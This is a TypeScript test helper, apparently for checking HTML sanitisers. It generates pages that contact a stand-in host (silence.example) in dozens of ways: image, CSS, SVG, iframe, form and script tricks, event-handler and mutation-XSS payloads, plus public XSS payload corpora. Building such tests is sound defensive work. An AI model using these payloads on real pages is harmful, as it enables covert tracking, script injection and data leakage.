/*
 * Pages that would tell somebody that they were read: every way in which a page asks the network for something as it is opened, each
 * under another address; and, where the corpus is there, what sanitisers are tested with.
 */
import { readFileSync } from 'node:fs';
import { corpus } from '../support/corpus.ts';

/** Ways of asking; `url` is never asked for by anything else. */
const ways: readonly ((url: string) => string)[] = [
  (url) => `<img src="${url}">`,
  (url) => `<img srcset="${url} 1x, ${url}?2 2x" src="data:,">`,
  (url) => `<picture><source srcset="${url}"><img src="${url}?fallback"></picture>`,
  (url) => `<img src=x onerror="new Image().src='${url}'">`,
  (url) => `<img loading="eager" src="//${url.slice(url.indexOf('//') + 2)}">`,
  (url) => `<video poster="${url}" src="${url}?v" autoplay preload="auto"></video>`,
  (url) => `<audio src="${url}" autoplay preload="auto"></audio>`,
  (url) => `<video autoplay><source src="${url}"><track default kind="captions" src="${url}?t"></video>`,
  (url) => `<link rel="stylesheet" href="${url}"><p>styled</p>`,
  (url) =>
    ['preload" as="image', 'prefetch', 'dns-prefetch', 'preconnect', 'modulepreload', 'icon', 'manifest', 'prerender']
      .map((rel) => `<link rel="${rel}" href="${url}">`)
      .join(''),
  (url) => `<meta http-equiv="refresh" content="0; url=${url}">`,
  (url) =>
    `<meta http-equiv="Link" content="<${url}>; rel=preload; as=image"><meta http-equiv="x-dns-prefetch-control" content="on">`,
  (url) => `<style>@import "${url}"; @import url(${url}?u); body { background: url(${url}?b) }</style><p>words</p>`,
  (url) => `<style>@font-face { font-family: a; src: url(${url}) } p { font-family: a }</style><p>words</p>`,
  (url) =>
    `<p style="background-image: url('${url}'); list-style: url(${url}?l); cursor: url(${url}?c), auto">words</p>`,
  (url) =>
    `<p style="background: image-set('${url}' 1x); content: url(${url}?n); border-image: url(${url}?i)">words</p>`,
  (url) =>
    `<div style="--a: url(${url}); background: var(--a); mask: url(${url}?m); filter: url(${url}#f)">words</div>`,
  (url) => `<svg><use href="${url}#a"></use><use xlink:href="${url}?x#a"></use></svg>`,
  (url) => `<svg><image href="${url}" xlink:href="${url}?x" width="9" height="9"></image></svg>`,
  (url) => `<svg><style>@import url(${url});</style><feImage href="${url}?f"/><script href="${url}?s"></script></svg>`,
  (url) => `<svg><a xlink:href="${url}"><animate attributeName="href" to="${url}?a" begin="0s"/></a></svg>`,
  (url) =>
    `<math><mtext><img src="${url}"></mtext><maction actiontype="statusline#${url}" xlink:href="${url}?m">x</maction></math>`,
  (url) => `<math href="${url}"><annotation-xml encoding="text/html"><img src="${url}?a"></annotation-xml></math>`,
  (url) => `<object data="${url}" type="text/html"><img src="${url}?o"></object>`,
  (url) => `<embed src="${url}" type="image/svg+xml">`,
  (url) => `<applet code="${url}" archive="${url}?a" codebase="${url}?c"></applet>`,
  (url) => `<iframe src="${url}"></iframe>`,
  (url) => `<iframe srcdoc="<img src='${url}'><script>fetch('${url}?s')</script>"></iframe>`,
  (url) => `<iframe src="data:text/html,<img src='${url}'>"></iframe><frameset><frame src="${url}?f"></frameset>`,
  (url) => `<portal src="${url}"></portal><fencedframe src="${url}?f"></fencedframe>`,
  (url) => `<base href="${url}/"><img src="a.png"><link rel="stylesheet" href="b.css"><p>words</p>`,
  (url) => `<script src="${url}"></script><script>fetch('${url}?f')</script>`,
  (url) => `<script type="module">import '${url}'; navigator.sendBeacon('${url}?b')</script>`,
  (url) => `<script type="speculationrules">{"prefetch":[{"source":"list","urls":["${url}"]}]}</script>`,
  (url) =>
    `<form action="${url}" id="f"><input type="image" src="${url}?i"><button autofocus>go</button></form><script>f.submit()</script>`,
  (url) => `<input autofocus onfocus="fetch('${url}')"><details open ontoggle="fetch('${url}?t')">x</details>`,
  (url) => `<a href="${url}" ping="${url}?p" download autofocus onfocus="this.click()">a link</a>`,
  (url) => `<a href="javascript:fetch('${url}')">a link</a><a href="data:text/html,<img src=${url}>">another</a>`,
  (url) => `<body background="${url}" onload="fetch('${url}?o')"><p>words</p>`,
  (url) => `<table background="${url}"><tr><td background="${url}?d">a cell</td></tr></table>`,
  (url) => `<bgsound src="${url}"><image src="${url}?i"><layer src="${url}?l"></layer>`,
  (url) => `<xml src="${url}"></xml><html manifest="${url}?m"><p>words</p>`,
  (url) => `<template><img src="${url}"></template><template shadowrootmode="open"><img src="${url}?s"></template>`,
  (url) => `<noscript><p title="</noscript><img src=${url}>"></noscript>`,
  (url) => `<!--><img src="${url}"><!-- --!><img src="${url}?c">`,
  (url) => `<svg></p><style><a id="</style><img src=${url}>">`,
  (url) => `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=${url}&gt;">`,
  (url) => `<blockquote cite="${url}">words</blockquote><q cite="${url}?q">words</q><ins cite="${url}?i">words</ins>`,
  (url) => `<img longdesc="${url}" lowsrc="${url}?l" dynsrc="${url}?d" usemap="${url}#m" alt="words">`,
];

/** The last so many of the ways wrap or follow each other, so that no two pages are the same. */
const wraps: readonly ((inner: string) => string)[] = [
  (inner) => inner,
  (inner) => `<div><ul><li>${inner}</li></ul></div>`,
  (inner) => `<table><tr><td>${inner}</td></tr></table>`,
  (inner) => `<blockquote><p>words ${inner} words</p></blockquote>`,
  (inner) => inner.replace(/<([a-z]+)/g, (_, name: string) => `<${name.toUpperCase()}`),
  (inner) => inner.replaceAll('="', ' = "').replaceAll('<img ', '<img\n/'),
  (inner) => `<section><details open><summary>words</summary>${inner}</details></section>`,
];

/** So many pages that would ask `https://silence.example` or hosts of their own; `url`s differ. */
export function hostilePages(count: number): readonly string[] {
  const known = corpusPages();
  return Array.from({ length: count }, (_, index) => {
    const url = `http${index % 2 ? 's' : ''}://silence.example/${index}`;
    const way = ways[index % ways.length] ?? String;
    const wrap = wraps[Math.floor(index / ways.length) % wraps.length] ?? String;
    const other = known.length === 0 ? '' : (known[(index * 7) % known.length] ?? '');
    return `<p>Page ${index} begins.</p>${wrap(way(url))}<p>Page ${index} goes on.</p>${other}`;
  });
}

/** What the corpus tests sanitisers with; none where it is absent. */
function corpusPages(): readonly string[] {
  return [
    ...stringsOf('sanitizer/html5lib/sanitizer-tests1.json', 'input'),
    ...stringsOf('sanitizer/owasp-xss-filter-evasion/payloads.json', 'payload'),
    ...stringsOf('sanitizer/dompurify/expect.json', 'payload'),
    ...stringsOf('sanitizer/html5sec/items.json', 'data'),
    ...(read('sanitizer/payloadbox/xss-payload-list.txt')?.split('\n') ?? []),
  ].filter((page) => page !== '');
}

function stringsOf(path: string, field: string): readonly string[] {
  const rows: unknown = JSON.parse(read(path) ?? '[]');
  if (!Array.isArray(rows)) return [];
  return rows.map((row: Readonly<Record<string, unknown>>) => row[field]).filter((each) => typeof each === 'string');
}

function read(path: string): string | null {
  const full = corpus(path);
  return full === null ? null : readFileSync(full, 'utf8');
}
